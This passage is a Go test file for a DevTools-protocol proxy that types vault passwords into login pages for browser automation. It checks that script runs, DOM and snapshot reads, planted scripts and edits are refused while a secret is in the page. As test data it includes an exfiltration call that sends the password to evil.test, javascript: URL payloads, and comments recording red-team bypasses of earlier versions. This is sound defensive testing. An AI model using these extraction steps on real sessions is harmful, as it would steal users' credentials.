package inject

import (
	"context"
	"encoding/json"
	"errors"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"
)

const taintRefusal = "refused: secret pw was typed into a page of "

// taintedEnv opens acme.test's login page with taints on, takes a handle
// on document.body (before anything is typed) and types the placeholder
// into the password field the way Playwright's fill() does.
func taintedEnv(t *testing.T) (e *browserEnv, bodyObject string) {
	t.Helper()
	e = newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw"}, envConfig{autoAttach: true, taints: NewTaints()})
	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	e.navigate(e.site.url("acme.test", "/login"))
	var res struct {
		Result struct{ ObjectID string } `json:"result"`
	}
	_ = json.Unmarshal(e.cl.must(e.sid, "Runtime.evaluate", map[string]any{"expression": "document.body"}), &res)
	e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
	if err := e.typeText("fill", "<<secret:pw>>"); err != nil {
		t.Fatalf("typing the placeholder: %v", err)
	}
	if e.taints.Len() != 1 {
		t.Fatalf("%d tainted documents after the injection, want 1", e.taints.Len())
	}
	return e, res.Result.ObjectID
}

func wantTaintRefusal(t *testing.T, what string, err error) {
	t.Helper()
	var ce *cdpError
	if !errors.As(err, &ce) || !strings.Contains(ce.msg, taintRefusal) || !strings.HasPrefix(ce.msg, "cdpvault: ") {
		t.Errorf("%s: got %v, want a cdpvault taint refusal", what, err)
	}
}

// submitWithEnter presses Enter in the focused field (implicit form
// submission: input only, no script) and returns what the site received.
func (e *browserEnv) submitWithEnter() string {
	e.t.Helper()
	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "keyDown", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "text": "\r"})
	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "keyUp", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13})
	select {
	case got := <-e.site.subs:
		return got
	case <-time.After(20 * time.Second):
		e.t.Fatal("Enter submitted nothing")
		return ""
	}
}

func TestChromiumTaintRefusesScriptUntilNavigation(t *testing.T) {
	t.Parallel()
	e, body := taintedEnv(t)

	// Every way to run script next to the value, change the document or hand
	// the page code is refused while the value is in it.
	attempts := []struct {
		method string
		params any
	}{
		{"Runtime.evaluate", map[string]any{"expression": `document.getElementById('pass').value.split('').reverse().join('')`, "returnByValue": true}},
		{"Runtime.evaluate", map[string]any{"expression": `fetch('http://evil.test:` + e.site.port + `/beacon', {method: 'POST', mode: 'no-cors', body: btoa(document.getElementById('pass').value)})`}},
		{"Runtime.callFunctionOn", map[string]any{"objectId": body, "functionDeclaration": `function() { return [...this.querySelector('#pass').value].map(c => c.charCodeAt(0)); }`, "returnByValue": true}},
		{"Runtime.getProperties", map[string]any{"objectId": body}},
		{"Runtime.compileScript", map[string]any{"expression": "1", "sourceURL": "", "persistScript": true}},
		{"Page.navigate", map[string]any{"url": " JavaScript:fetch('http://evil.test/')"}},
		{"Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "1", "runImmediately": true}},
		{"DOM.setAttributeValue", map[string]any{"nodeId": 1, "name": "type", "value": "text"}},
		{"DOM.setOuterHTML", map[string]any{"nodeId": 1, "outerHTML": "<p>"}},
		{"CSS.addRule", map[string]any{"styleSheetId": "1", "ruleText": "input{}", "location": map[string]any{}}},
		{"Debugger.evaluateOnCallFrame", map[string]any{"callFrameId": "1", "expression": "1"}},
		{"Fetch.fulfillRequest", map[string]any{"requestId": "1", "responseCode": 200}},
		{methodKeyEvent, map[string]any{"type": "rawKeyDown", "key": "c", "code": "KeyC", "modifiers": 2, "commands": []string{"copy"}}},
	}
	for _, a := range attempts {
		res, err := e.cl.send(e.sid, a.method, a.params)
		if a.method == "Runtime.evaluate" || a.method == "Runtime.callFunctionOn" {
			// Answered as an exception, which every client shows with its
			// reason (Playwright hides protocol errors of these).
			var out struct {
				ExceptionDetails struct {
					Exception struct{ Description string }
				}
			}
			_ = json.Unmarshal(res, &out)
			err = nil
			if d := out.ExceptionDetails.Exception.Description; d != "" {
				err = &cdpError{strings.TrimPrefix(d, "Error: ")}
			}
		}
		wantTaintRefusal(t, a.method, err)
	}
	if n := testutilCounter(e.metrics()); n != float64(len(attempts)) {
		t.Errorf("tainted refusals counted %v, want %d", n, len(attempts))
	}

	// A second connection to the same browser (one per client WebSocket,
	// sharing the session's taints) is no way round.
	c2 := dialCDP(t, e.wsURL, e.interceptor())
	cl2 := &cdpClient{c: c2}
	ti, _ := e.conn.Target(e.sid)
	var at struct{ SessionID string }
	_ = json.Unmarshal(cl2.must("", "Target.attachToTarget", map[string]any{"targetId": ti.TargetID, "flatten": true}), &at)
	_, err := cl2.send(at.SessionID, "Runtime.getProperties", map[string]any{"objectId": body})
	wantTaintRefusal(t, "second connection", err)

	// Reading the tree is refused (it holds the field's value); geometry
	// and typing still work.
	_, err = e.cl.send(e.sid, "DOM.getDocument", map[string]any{"depth": -1, "pierce": true})
	wantTaintRefusal(t, "DOM.getDocument", err)
	if got, want := e.submitWithEnter(), "acme.test \x00"+plainValue; got != want {
		t.Errorf("site received %q, want %q", got, want)
	}
	// The submission committed another document: script runs again.
	deadline := time.Now().Add(15 * time.Second)
	for string(e.cl.evalNoFail(e.sid, `document.body.textContent`)) != `"ok"` {
		if time.Now().After(deadline) {
			t.Fatalf("script still refused after the page navigated (taints %d)", e.taints.Len())
		}
		time.Sleep(10 * time.Millisecond) // polling the browser with a deadline
	}
	if e.site.received("evil.test", plainValue) || e.site.received("evil.test", "") {
		t.Error("evil.test received a request")
	}
}

// TestChromiumTaintWakesOnHistoryReturn: the back/forward cache restores a
// typed-into document with the value still in its field; going back to it
// brings the taint back.
func TestChromiumTaintWakesOnHistoryReturn(t *testing.T) {
	t.Parallel()
	e, _ := taintedEnv(t)
	e.navigate(e.site.url("acme.test", "/plain"))
	e.cl.eval(e.sid, `document.title`) // another document: script runs
	var h struct {
		CurrentIndex int
		Entries      []struct{ ID int64 }
	}
	_ = json.Unmarshal(e.cl.must(e.sid, "Page.getNavigationHistory", nil), &h)
	if h.CurrentIndex < 1 {
		t.Fatalf("history %+v", h)
	}
	e.cl.must(e.sid, "Page.navigateToHistoryEntry", map[string]any{"entryId": h.Entries[h.CurrentIndex-1].ID})
	deadline := time.Now().Add(15 * time.Second)
	for {
		res, err := e.cl.send(e.sid, "Runtime.getProperties", map[string]any{"objectId": "0.0.0"})
		if err != nil && strings.Contains(err.Error(), taintRefusal) {
			break // the login document is back, and so is its taint
		}
		if time.Now().After(deadline) {
			t.Fatalf("after going back: %s %v; want the taint back", res, err)
		}
		time.Sleep(10 * time.Millisecond) // polling the browser with a deadline
	}
	_, err := e.cl.send(e.sid, "Runtime.evaluate", map[string]any{"expression": `document.getElementById('pass').value.split('').reverse().join('')`})
	if err != nil {
		t.Fatalf("evaluate: %v", err)
	}
	if m := testutilCounter(e.metrics()); m < 2 {
		t.Errorf("tainted refusals %v, want the evaluate refused too", m)
	}
}

func TestChromiumTaintOutlivesTypingConnection(t *testing.T) {
	t.Parallel()
	e, _ := taintedEnv(t)
	c2 := dialCDP(t, e.wsURL, e.interceptor())
	cl2 := &cdpClient{c: c2}
	ti, _ := e.conn.Target(e.sid)
	var at struct{ SessionID string }
	_ = json.Unmarshal(cl2.must("", "Target.attachToTarget", map[string]any{"targetId": ti.TargetID, "flatten": true}), &at)

	// The connection that typed the value goes away; the page stays.
	e.conn.in.Close()
	_ = e.conn.ws.Close()
	<-e.conn.closed
	_, err := cl2.send(at.SessionID, "DOM.setAttributeValue", map[string]any{"nodeId": 1, "name": "type", "value": "text"})
	wantTaintRefusal(t, "after the typing connection closed", err)

	// Closing the page ends the taint.
	cl2.must("", "Target.closeTarget", map[string]any{"targetId": ti.TargetID})
	var ct struct{ TargetID string }
	_ = json.Unmarshal(cl2.must("", "Target.createTarget", map[string]any{"url": "about:blank"}), &ct)
	var at2 struct{ SessionID string }
	_ = json.Unmarshal(cl2.must("", "Target.attachToTarget", map[string]any{"targetId": ct.TargetID, "flatten": true}), &at2)
	deadline := time.Now().Add(15 * time.Second)
	for {
		_, err := cl2.send(at2.SessionID, "Runtime.getProperties", map[string]any{"objectId": "1.1.1"})
		if err == nil || !strings.Contains(err.Error(), taintRefusal) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("script refused after the tainted page closed: %v", err)
		}
		time.Sleep(10 * time.Millisecond) // the close is asynchronous in the browser
	}
}

func TestChromiumNoTaintWithoutInjection(t *testing.T) {
	t.Parallel()
	e := newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw"}, envConfig{autoAttach: true, taints: NewTaints()})
	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	e.navigate(e.site.url("evil.test", "/login"))
	e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
	// A refused injection (wrong origin) types nothing and taints nothing.
	if err := e.typeText("fill", "<<secret:pw>>"); err == nil {
		t.Fatal("injection on evil.test was not refused")
	}
	if e.taints.Len() != 0 {
		t.Fatalf("%d taints after a refused injection", e.taints.Len())
	}
	e.cl.eval(e.sid, `document.title`)
}

func TestPlantsScript(t *testing.T) {
	t.Parallel()
	cases := []struct {
		method, raw string
		want        bool
	}{
		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"","worldName":"__playwright_utility_world__"}}`, false},
		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"fetch(1)"}}`, true},
		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"","Source":"fetch(1)"}}`, true},
		{"Page.reload", `{"params":{}}`, false},
		{"Page.reload", `{"params":{"scriptToEvaluateOnLoad":"fetch(1)"}}`, true},
		{"Memory.simulatePressureNotification", `{"params":{"level":"critical"}}`, true},
		{"Page.navigate", `{"params":{"url":"https://acme.test/"}}`, false},
	}
	for _, c := range cases {
		if got := plantsScript(c.method, []byte(c.raw)); got != c.want {
			t.Errorf("plantsScript(%s, %s) = %v, want %v", c.method, c.raw, got, c.want)
		}
	}
	if !gated("Page.navigate", []byte(`{"params":{"url":"https://acme.test/","frameId":"CHILD"}}`), "MAIN") ||
		gated("Page.navigate", []byte(`{"params":{"url":"https://acme.test/","frameId":"MAIN"}}`), "MAIN") {
		t.Error("navigating a child frame of a tainted page must be refused, the main frame not")
	}
}

func TestGated(t *testing.T) {
	t.Parallel()
	cases := []struct {
		method, raw string
		want        bool
	}{
		{"Runtime.evaluate", `{}`, true},
		{"Runtime.callFunctionOn", `{}`, true},
		{"Runtime.releaseObject", `{}`, false},
		{"DOM.setAttributeValue", `{}`, true},
		{"Input.dispatchMouseEvent", `{}`, false},
		{"Page.navigate", `{"params":{"url":"https://acme.test/"}}`, false},
		{"Page.navigate", `{"params":{"url":"javascript:alert(1)"}}`, true},
		{"Page.navigate", `{"params":{"url":"\u0000 jAvAsCrIpT:x"}}`, true},
		{"Page.navigate", `{"params":{"url":"java\tscript:x"}}`, true},
		{"Page.navigate", `not json`, true},
		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"1"}}`, false},
		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"1","runImmediately": false}}`, false},
		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"1","runImmediately" : true}}`, true},
		{"Fetch.continueRequest", `{"params":{"requestId":"1"}}`, false},
		{"Fetch.continueRequest", `{"params":{"requestId":"1","url":"data:text/javascript,1"}}`, true},
		{"Fetch.fulfillRequest", `{}`, true},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"a","text":"a"}}`, false},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"Enter","text":"\r"}}`, false},
		{methodKeyEvent, `{"params":{"type":"rawKeyDown","key":"a","modifiers":2,"commands":["selectAll"]}}`, true},
		{methodKeyEvent, `{"params":{"type":"rawKeyDown","modifiers":2,"windowsVirtualKeyCode":67}}`, true},
		{methodKeyEvent, `{"params":{"type":"rawKeyDown","key":"Delete","modifiers":8}}`, true},
		{methodKeyEvent, `{"params":{"type":"rawKeyDown","modifiers":8,"windowsVirtualKeyCode":46}}`, true},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"A","text":"A","modifiers":8}}`, false},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"Tab","code":"Tab","windowsVirtualKeyCode":9}}`, false},
		{methodKeyEvent, `{"params":{"type":"rawKeyDown","key":"c","modifiers":2,"commands":["copy"]}}`, true},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"C","modifiers":4}}`, true},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"ß","code":"KeyX","modifiers":2}}`, true},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"Insert","modifiers":2}}`, true},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"c","text":"c"}}`, false},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"Copy"}}`, true},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"q","commands":["Cut"]}}`, true},
		// Chrome reads exact lower-case names; Go's decoder would take the
		// last case-insensitive match. Such params are refused whole.
		{"Page.addScriptToEvaluateOnNewDocument", `{"params":{"source":"x","runImmediately":true,"RunImmediately":false}}`, true},
		{"Page.navigate", `{"params":{"url":"javascript:x","URL":"https://acme.test/"}}`, true},
		{"Page.navigate", `{"params":{"url":"https://acme.test/","url":"javascript:x"}}`, true},
		{"Fetch.continueRequest", `{"params":{"requestId":"1","Url":"x"}}`, false},
		{"Fetch.continueRequest", `{"params":{"requestId":"1","url":"x","Url":"y"}}`, true},
		{methodKeyEvent, `{"params":{"type":"keyDown","key":"c","Key":"a","modifiers":2}}`, true},
		{methodKeyEvent, `{"Params":{"type":"keyDown","key":"a"},"params":{"type":"keyDown","key":"a"}}`, true},
		{"DOMSnapshot.captureSnapshot", `{}`, true},
		{"Accessibility.getFullAXTree", `{}`, true},
		{"Accessibility.queryAXTree", `{}`, true},
		{"HeapProfiler.takeHeapSnapshot", `{}`, true},
		{"Debugger.pause", `{}`, true},
		{"Debugger.stepOut", `{}`, true},
		{"Debugger.resume", `{}`, false},
		{"Debugger.enable", `{}`, false},
		{"DOMDebugger.setEventListenerBreakpoint", `{}`, true},
		{"EventBreakpoints.setInstrumentationBreakpoint", `{}`, true},
		{"Input.setInterceptDrags", `{}`, true},
		{"DOM.getDocument", `{}`, true},
		{"DOM.describeNode", `{}`, true},
		{"DOM.querySelector", `{}`, true},
		{"DOM.getOuterHTML", `{}`, true},
		{"DOM.performSearch", `{}`, true},
		{"DOM.getContentQuads", `{}`, true},
		{"DOM.getBoxModel", `{}`, true},
		{"DOM.getNodeForLocation", `{}`, true},
		{"CSS.getComputedStyleForNode", `{}`, true},
		{"CSS.getPlatformFontsForNode", `{}`, true},
		{"CSS.enable", `{}`, false},
		{"LayerTree.compositingReasons", `{}`, true},
		{"Overlay.getHighlightObjectForTest", `{}`, true},
		{"Page.getLayoutMetrics", `{}`, true},
		{"DOM.scrollIntoViewIfNeeded", `{}`, false},
		{"DOM.focus", `{}`, false},
		{"DOM.resolveNode", `{}`, false},
		{"CSS.getMatchedStylesForNode", `{}`, true},
	}
	for _, c := range cases {
		if got := gated(c.method, []byte(c.raw), ""); got != c.want {
			t.Errorf("gated(%s, %s) = %v, want %v", c.method, c.raw, got, c.want)
		}
	}
}

func testutilCounter(m *Metrics) float64 { return testutil.ToFloat64(m.tainted) }

// TestChromiumRefusedOriginDecryptsNothing: with a vault that lists origins
// without decrypting (the daemon's), a placeholder typed on a disallowed
// origin is refused before any value is decrypted.
func TestChromiumRefusedOriginDecryptsNothing(t *testing.T) {
	t.Parallel()
	e := newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw"}, envConfig{autoAttach: true, listing: true})
	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	for _, host := range []string{"evil.test", "acme.test"} {
		e.navigate(e.site.url(host, "/login"))
		e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
		err := e.typeText("fill", "<<secret:pw>>")
		e.vault.mu.Lock()
		n := e.vault.resolves
		e.vault.mu.Unlock()
		switch host {
		case "evil.test":
			if err == nil || n != 0 {
				t.Errorf("evil.test: error %v, %d values decrypted; want refused with none", err, n)
			}
		default:
			if err != nil || n != 1 {
				t.Errorf("acme.test: error %v, %d values decrypted; want typed with one", err, n)
			}
		}
	}
	if recs := e.audit.all(); len(recs) != 2 || recs[0].Result != AuditRefused || recs[0].Version != 3 || recs[1].Result != AuditInjected {
		t.Errorf("audit %+v", recs)
	}
}

// TestChromiumTaintRedTeamFindings: what a red-team run got past the first
// taint. An edit of one character and a snapshot read (DOMSnapshot, the
// accessibility tree) would show the rest of the value; a script for new
// documents planted after typing runs in a child frame the agent
// navigates, or in the typed-into document brought back from history
// after the back/forward cache is flushed.
func TestChromiumTaintRedTeamFindings(t *testing.T) {
	t.Parallel()
	e := newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw"}, envConfig{autoAttach: true, taints: NewTaints()})
	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	e.navigate(e.site.url("acme.test", "/framed?src="+url.QueryEscape(e.site.url("acme.test", "/plain"))))
	e.cl.waitEval(e.sid, `!!document.getElementById('fr').contentDocument && document.getElementById('fr').contentDocument.readyState === 'complete'`)
	var ft struct {
		FrameTree struct {
			Frame       struct{ ID string }
			ChildFrames []struct{ Frame struct{ ID string } }
		}
	}
	_ = json.Unmarshal(e.cl.must(e.sid, "Page.getFrameTree", nil), &ft)
	if len(ft.FrameTree.ChildFrames) != 1 {
		t.Fatalf("frame tree %+v", ft)
	}
	child := ft.FrameTree.ChildFrames[0].Frame.ID
	e.cl.eval(e.sid, `document.getElementById('outer').focus()`)
	if err := e.typeText("fill", "<<secret:pw>>"); err != nil {
		t.Fatalf("typing: %v", err)
	}
	// Enter, Tab and key releases pass; editing keys and other text do not
	// (one changed character takes the value past the scrubber wherever
	// the page shows or sends it).
	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "keyUp", "key": "Home"})
	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "rawKeyDown", "key": "Tab", "code": "Tab", "windowsVirtualKeyCode": 9})
	for _, a := range []struct {
		method string
		params any
	}{
		{methodKeyEvent, map[string]any{"type": "rawKeyDown", "key": "Home", "code": "Home", "windowsVirtualKeyCode": 36}},
		{methodKeyEvent, map[string]any{"type": "rawKeyDown", "windowsVirtualKeyCode": 8}},
		{methodKeyEvent, map[string]any{"type": "keyDown", "key": "x", "text": "x"}},
		{methodInsertText, map[string]any{"text": "~"}},
		{methodIME, map[string]any{"text": "~", "selectionStart": 1, "selectionEnd": 1}},
		{"DOM.describeNode", map[string]any{"nodeId": 1, "depth": -1, "pierce": true}},
		{"DOMSnapshot.captureSnapshot", map[string]any{"computedStyles": []string{}}},
		{"Accessibility.getFullAXTree", map[string]any{}},
		{"Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "top.document.title"}},
		{"Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "1", "runImmediately": true, "RunImmediately": false}},
		{"Page.navigate", map[string]any{"url": e.site.url("acme.test", "/plain?2"), "frameId": child}},
		{"Page.navigate", map[string]any{"url": "javascript:1", "URL": e.site.url("acme.test", "/plain")}},
		{"Memory.simulatePressureNotification", map[string]any{"level": "critical"}},
	} {
		_, err := e.cl.send(e.sid, a.method, a.params)
		wantTaintRefusal(t, a.method, err)
	}
	// Never, tainted or not: page script with a DevTools channel of its own.
	_, err := e.cl.send("", "Target.exposeDevToolsProtocol", map[string]any{"targetId": ct0(e), "bindingName": "cdp"})
	if err == nil || !strings.Contains(err.Error(), "cdpvault: Target.exposeDevToolsProtocol refused") {
		t.Errorf("exposeDevToolsProtocol: %v", err)
	}
	// A '<' is held (it could start another placeholder); when the text
	// turns out ordinary, the held key is dropped, not typed.
	before := testutilCounter(e.metrics())
	e.cl.must(e.sid, methodInsertText, map[string]any{"text": "<"})
	_, err = e.cl.send(e.sid, methodInsertText, map[string]any{"text": "a"})
	wantTaintRefusal(t, "text after a held '<'", err)
	if n := testutilCounter(e.metrics()) - before; n != 2 {
		t.Errorf("%v tainted refusals for a held '<' and an 'a', want 2 (the drop and the refusal)", n)
	}
	// Playwright's own utility-world registration (empty source) passes.
	e.cl.must(e.sid, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "", "worldName": "utility"})

	// Another document: script runs again, but no script may be planted in
	// this page while the typed-into document can come back.
	e.navigate(e.site.url("acme.test", "/plain"))
	e.cl.eval(e.sid, `document.title`)
	for _, a := range []struct {
		method string
		params any
	}{
		{"Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "fetch('/x')"}},
		{"Page.reload", map[string]any{"scriptToEvaluateOnLoad": "fetch('/x')"}},
		{"Memory.simulatePressureNotification", map[string]any{"level": "critical"}},
	} {
		_, err := e.cl.send(e.sid, a.method, a.params)
		wantTaintRefusal(t, a.method+" while asleep", err)
	}
	// Another page of the session may.
	var ct struct{ TargetID string }
	_ = json.Unmarshal(e.cl.must("", "Target.createTarget", map[string]any{"url": "about:blank"}), &ct)
	var at struct{ SessionID string }
	_ = json.Unmarshal(e.cl.must("", "Target.attachToTarget", map[string]any{"targetId": ct.TargetID, "flatten": true}), &at)
	e.cl.must(at.SessionID, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "1"})
}

// ct0 is the target id of the env's page.
func ct0(e *browserEnv) string {
	ti, _ := e.conn.Target(e.sid)
	return ti.TargetID
}

// TestChromiumFieldChecks: a value goes only into a field whose validity
// and length do not depend on it (a pattern per field made :valid styles an
// oracle; a short maxlength handed back a truncated, unscrubbed value), and
// on a page that already holds a typed value only into an empty field (a
// second placeholder typed into the middle of a value split it around its
// scrubbed copy).
func TestChromiumFieldChecks(t *testing.T) {
	t.Parallel()
	e := newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw"}, envConfig{autoAttach: true, taints: NewTaints()})
	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	e.navigate(e.site.url("acme.test", "/fields"))
	for _, id := range []string{"pat", "minl", "maxl"} {
		e.cl.eval(e.sid, `document.getElementById('`+id+`').focus()`)
		for _, style := range []string{"fill", "keys-puppeteer"} {
			err := e.typeText(style, "<<secret:pw>>")
			if err == nil || !strings.Contains(err.Error(), "validity or length depends on the value") {
				t.Errorf("#%s %s: %v, want refused", id, style, err)
			}
		}
		if v := string(e.cl.eval(e.sid, `document.getElementById('`+id+`').value`)); v != `""` {
			t.Errorf("#%s holds %s", id, v)
		}
	}
	e.cl.eval(e.sid, `document.getElementById('big').focus()`)
	if err := e.typeText("fill", "<<secret:pw>>"); err != nil {
		t.Fatalf("#big: %v", err)
	}
	// The page now holds a typed value: not into a field that holds text.
	for _, style := range []string{"fill", "keys-puppeteer", "keys-chromedp"} {
		err := e.typeText(style, "<<secret:pw>>")
		if err == nil || !strings.Contains(err.Error(), "already holds text") {
			t.Errorf("second placeholder into #big (%s): %v, want refused", style, err)
		}
	}
	// Into the next, empty field it goes.
	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "rawKeyDown", "key": "Tab", "code": "Tab", "windowsVirtualKeyCode": 9})
	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "keyUp", "key": "Tab", "code": "Tab", "windowsVirtualKeyCode": 9})
	if err := e.typeText("insertText-per-char", "<<secret:pw>>"); err != nil {
		t.Errorf("#next: %v", err)
	}
	recs := e.audit.all()
	var injected, constrained, filled int
	for _, r := range recs {
		switch {
		case r.Result == AuditInjected:
			injected++
		case r.Reason == "sink: constrained field":
			constrained++
		case r.Reason == "sink: field holds text":
			filled++
		}
	}
	if injected != 2 || constrained != 6 || filled != 3 {
		t.Errorf("audit: %d injected, %d constrained, %d filled; want 2, 6, 3: %+v", injected, constrained, filled, recs)
	}
}

// TestChromiumFormPostingElsewhereRefused: a value is not typed into a field
// whose form, or a submit button of it, posts to an origin the secret is not
// allowed on (a form action changed before typing sent it in clear to
// evil.test).
func TestChromiumFormPostingElsewhereRefused(t *testing.T) {
	t.Parallel()
	e := newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw"}, envConfig{autoAttach: true, taints: NewTaints()})
	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	evil, acme := e.site.url("evil.test", "/submit"), e.site.url("acme.test", "/submit")
	for _, c := range []struct {
		action, formaction string
		ok                 bool
	}{
		{evil, acme, false},
		{acme, evil, false},
		{"/submit", "", true},
		{acme, acme, true},
	} {
		e.navigate(e.site.url("acme.test", "/formto?action="+url.QueryEscape(c.action)+"&formaction="+url.QueryEscape(c.formaction)))
		e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
		for _, style := range []string{"fill", "keys-puppeteer"} {
			err := e.typeText(style, "<<secret:pw>>")
			switch {
			case c.ok && err != nil:
				t.Errorf("action %q formaction %q (%s): %v", c.action, c.formaction, style, err)
			case !c.ok && (err == nil || !strings.Contains(err.Error(), "posts to an origin the secret is not allowed on")):
				t.Errorf("action %q formaction %q (%s): %v, want refused", c.action, c.formaction, style, err)
			}
			if c.ok {
				break // the page now holds the value
			}
		}
	}
	// An image submitter outside the form (form=f), which form.elements
	// leaves out, posting elsewhere or by GET.
	for _, extra := range []string{`<input type=image form=f formaction="` + evil + `">`, `<input type=image form=f formmethod=get>`} {
		e.navigate(e.site.url("acme.test", "/formto?action=/submit&extra="+url.QueryEscape(extra)))
		e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
		if err := e.typeText("fill", "<<secret:pw>>"); err == nil {
			t.Errorf("%s: typed, want refused", extra)
		}
	}
}

// TestChromiumTaintRefusesHiddenEdits: what a fourth red-team round used to
// edit a typed value after the editing keys were refused: an empty IME
// composition with a replacement range, a tab or line break as a char event
// or under another key, and Enter in a textarea.
func TestChromiumTaintRefusesHiddenEdits(t *testing.T) {
	t.Parallel()
	e := newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw"}, envConfig{autoAttach: true, taints: NewTaints()})
	e.vault.secrets["pw"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	e.navigate(e.site.url("acme.test", "/ta"))
	var doc struct{ Root struct{ NodeID int64 } }
	_ = json.Unmarshal(e.cl.must(e.sid, "DOM.getDocument", map[string]any{}), &doc)
	node := func(sel string) int64 {
		var q struct{ NodeID int64 }
		_ = json.Unmarshal(e.cl.must(e.sid, "DOM.querySelector", map[string]any{"nodeId": doc.Root.NodeID, "selector": sel}), &q)
		return q.NodeID
	}
	pass, ta := node("#pass"), node("#ta")
	e.cl.must(e.sid, "DOM.focus", map[string]any{"nodeId": pass})
	if err := e.typeText("fill", "<<secret:pw>>"); err != nil {
		t.Fatal(err)
	}
	for _, a := range []struct {
		method string
		params any
	}{
		{methodIME, map[string]any{"text": "", "selectionStart": 0, "selectionEnd": 0, "replacementStart": 3, "replacementEnd": 4}},
		{methodInsertText, map[string]any{"text": ""}},
		{methodKeyEvent, map[string]any{"type": "char", "text": "\t"}},
		{methodKeyEvent, map[string]any{"type": "keyDown", "key": "q", "code": "KeyQ", "windowsVirtualKeyCode": 81, "text": "\t"}},
		{methodKeyEvent, map[string]any{"type": "char", "key": "a", "text": "\r"}},
	} {
		_, err := e.cl.send(e.sid, a.method, a.params)
		wantTaintRefusal(t, a.method, err)
	}
	e.cl.must(e.sid, "DOM.focus", map[string]any{"nodeId": ta})
	_, err := e.cl.send(e.sid, methodKeyEvent, map[string]any{"type": "keyDown", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "text": "\r"})
	wantTaintRefusal(t, "Enter in a textarea", err)
	e.cl.must(e.sid, "DOM.focus", map[string]any{"nodeId": pass})
	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "keyDown", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "text": "\r"})
	e.cl.must(e.sid, methodKeyEvent, map[string]any{"type": "char", "key": "Enter", "code": "Enter", "text": "\r"})
}

// TestTaintWhileWriting: between a write and its taint record, every gated
// command of the session is refused (a second connection read the value in
// that window).
func TestTaintWhileWriting(t *testing.T) {
	t.Parallel()
	ts := NewTaints()
	end := ts.beginWrite("pw", "https://acme.test")
	if r := ts.live(context.Background(), nil); r == nil || r.secret != "pw" || ts.Len() != 1 {
		t.Fatalf("during a write: live %+v, Len %d", r, ts.Len())
	}
	end()
	if r := ts.live(context.Background(), nil); r != nil || ts.Len() != 0 {
		t.Fatalf("after the write (no record): live %+v, Len %d", r, ts.Len())
	}
}

// TestChromiumNonUTF8FormRefused: a value with non-ASCII characters is not
// typed into a field whose form encodes submissions in another charset (its
// percent-encoding there is a form the scrubber does not know); an ASCII
// value is.
func TestChromiumNonUTF8FormRefused(t *testing.T) {
	t.Parallel()
	e := newBrowserEnvWith(t, map[string]fakeSecret{}, []string{"pw", "plain"}, envConfig{autoAttach: true})
	e.vault.secrets["pw"] = fakeSecret{value: trickyValue, origins: []string{e.site.origin("acme.test")}}
	e.vault.secrets["plain"] = fakeSecret{value: plainValue, origins: []string{e.site.origin("acme.test")}}
	for _, c := range []struct {
		cs, secret string
		ok         bool
	}{
		{"ISO-8859-1", "pw", false},
		{"windows-1252 utf-8", "pw", false},
		{"utf-8", "pw", true},
		{"", "pw", true},
		{"ISO-8859-1", "plain", true},
	} {
		e.navigate(e.site.url("acme.test", "/formto?action=/submit&cs="+url.QueryEscape(c.cs)))
		e.cl.eval(e.sid, `document.getElementById('pass').focus()`)
		for _, style := range []string{"fill", "keys-chromedp"} {
			e.cl.eval(e.sid, `document.getElementById('pass').value = ''`)
